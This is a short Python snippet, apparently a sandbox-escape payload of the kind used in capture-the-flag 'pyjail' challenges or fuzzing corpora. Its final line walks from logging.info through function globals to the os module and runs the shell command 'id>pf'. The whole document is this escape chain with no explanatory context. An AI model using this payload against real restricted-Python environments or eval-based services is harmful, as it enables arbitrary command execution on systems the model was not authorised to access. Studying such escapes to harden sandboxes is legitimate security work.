(0).__add__.__self__
"".join.__class__
import logging
logging.info.__get__(0).__func__.__globals__["os"].system("id>pf")
